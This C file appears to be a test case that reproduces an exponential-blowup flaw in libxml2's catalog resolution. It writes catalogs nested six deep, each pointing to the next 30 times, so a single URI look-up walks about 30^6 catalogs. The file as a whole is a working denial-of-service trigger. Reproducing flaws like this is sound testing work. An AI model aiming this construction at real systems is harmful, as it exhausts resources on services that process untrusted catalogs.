/* Catalogs that name the next catalog 30 times, six deep: a look-up visits 30^6 of them. */
#include "session.h"
#include <libxml/catalog.h>
#include <libxml/parser.h>

#define DEPTH 6
#define TIMES 30

void prepare(void) { xmlInitParser(); }

void hole(void)
{
    static char text[65536];
    const char *next = file_of("<catalog xmlns=\"urn:oasis:names:tc:entity:xmlns:xml:catalog\"/>", 62);
    for (int i = 0; i < DEPTH; i++) {
        int length = snprintf(text, sizeof text, "<catalog xmlns=\"urn:oasis:names:tc:entity:xmlns:xml:catalog\">");
        for (int j = 0; j < TIMES; j++)
            length += snprintf(text + length, sizeof text - (size_t)length, "<nextCatalog catalog=\"%s\"/>", next);
        length += snprintf(text + length, sizeof text - (size_t)length, "</catalog>");
        next = file_of(text, (size_t)length);
    }
    xmlCatalogPtr catalog = xmlLoadACatalog(next);
    xmlChar *found = xmlACatalogResolveURI(catalog, BAD_CAST "/foo.ent");
    say("%s", found ? "resolved" : "not resolved");
}
